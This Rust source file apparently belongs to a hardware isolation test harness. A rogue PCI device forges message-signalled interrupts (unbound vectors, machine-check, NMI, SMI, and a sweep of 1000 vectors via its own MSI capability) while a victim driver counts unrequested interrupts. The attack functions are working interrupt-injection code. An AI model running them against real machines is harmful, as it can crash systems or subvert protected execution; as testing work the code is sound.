//! Interrupt messages that a device makes up, and a driver that listens.

use hardware::{Interrupt, InterruptLine, PciFunction, Platform, Registers};
use runtime::log;
use runtime::thread;
use runtime::time::Duration;

use crate::registers::{self as reg, messages};
use crate::{COPY, Rogue};

/// Target of the driver that only listens.
pub const VICTIM: &str = "victim";
/// How long it does.
const LISTENING_NS: u64 = 4_000_000_000;
/// How long a message takes at most.
const ARRIVAL: Duration = Duration::from_millis(20);

/// Where messages are written to (SDM volume 3A, section 11.11.1), to CPU 0.
const RANGE: u64 = 0xfee0_0000;
/// The message names an interrupt, in these bits (VT-d, section 5.1.2.2); with the other
/// bit its data is added to that.
const NAMES: u64 = 1 << 4;
const NAME_SHIFT: u32 = 5;
const ADDS: u64 = 1 << 3;
/// Names there can be.
const BEYOND: u64 = 1000;
/// One that nothing has: what it would raise is an exception.
const UNBOUND: u64 = 8;

/// Data of messages that say themselves what is raised (section 11.11.2).
const MACHINE_CHECK: u32 = 18;
const MANAGEMENT: u32 = 2 << 8;
const UNMASKABLE: u32 = 4 << 8;

/// Says how often the own device has interrupted, which it was never told to do.
pub fn listen(function: &PciFunction) {
    let Ok(interrupt) = function.interrupt(0) else {
        return log::error!("no interrupt");
    };
    let end_ns = function.now_ns() + LISTENING_NS;
    let heard = count_until(&interrupt, end_ns);
    log::info!("interrupts that nothing has raised: {heard}");
}

fn count_until(interrupt: &Interrupt, end_ns: u64) -> u64 {
    let first = interrupt.wait(u64::MAX, 0).unwrap_or(0);
    let mut seen = first;
    while let Ok(count) = interrupt.wait(seen, end_ns) {
        seen = count;
    }
    seen - first
}

/// Where the message is written to that names an interrupt.
pub const fn named(name: u64) -> u64 {
    RANGE | NAMES | name << NAME_SHIFT
}

/// Forges what `target` says; false: that is no interrupt.
pub fn attack(rogue: &Rogue, target: &str) -> bool {
    let (address, data) = match target {
        "any" => {
            raise_all(rogue);
            return true;
        }
        "unbound" => (named(UNBOUND), 0),
        "beyond" => (named(BEYOND), 0),
        "exception" => (RANGE, MACHINE_CHECK),
        "unmaskable" => (RANGE, UNMASKABLE),
        "management" => (RANGE, MANAGEMENT),
        _ => return false,
    };
    let Some(own) = rogue.function.allocate(1) else {
        log::error!("no memory");
        return true;
    };
    own.write(0, u64::from(data));
    let bytes = size_of::<u32>();
    rogue.copy_some(own.physical(), reg::BUFFER, reg::START, bytes);
    log::info!("forges {target}");
    rogue.copy_some(reg::BUFFER, address, reg::START | reg::TO_MEMORY, bytes);
    true
}

/// Raises every interrupt that can be named, as the device's own.
fn raise_all(rogue: &Rogue) {
    let Some((interrupt, place)) = rogue.function.interrupt(0).ok().zip(place(rogue)) else {
        return log::error!("no interrupt");
    };
    let at = |register| place + register;
    let function = rogue.function.info().address;
    let raise = |address: u64, data: u32| {
        breach::write_configuration(function, at(messages::ADDRESS), address as u32);
        breach::write_configuration(function, at(messages::UPPER_ADDRESS), 0);
        breach::write_configuration(function, at(messages::DATA), data);
        rogue.registers.write32(reg::RAISE, 1);
        rogue.registers.write32(reg::ACKNOWLEDGE, 1);
    };
    let own = breach::read_configuration(function, at(messages::ADDRESS));
    log::info!("raises any");
    for name in 0..BEYOND {
        raise(RANGE | NAMES | name << NAME_SHIFT, 0);
        raise(RANGE | NAMES | ADDS, name as u32);
    }
    thread::sleep(ARRIVAL);
    let before = interrupt.wait(u64::MAX, 0).unwrap_or(0);
    raise(own.into(), 0);
    thread::sleep(COPY);
    let after = interrupt.wait(before, 0);
    log::info!("own interrupt works: {}", after.is_ok());
}

/// Where the capability for messages lies.
fn place(rogue: &Rogue) -> Option<u16> {
    let function = rogue.function.info().address;
    let mut at = breach::read_configuration(function, messages::FIRST) as u16 & 0xfc;
    while at != 0 {
        let head = breach::read_configuration(function, at);
        if head & 0xff == messages::ID {
            return Some(at);
        }
        at = (head >> 8) as u16 & 0xfc;
    }
    None
}
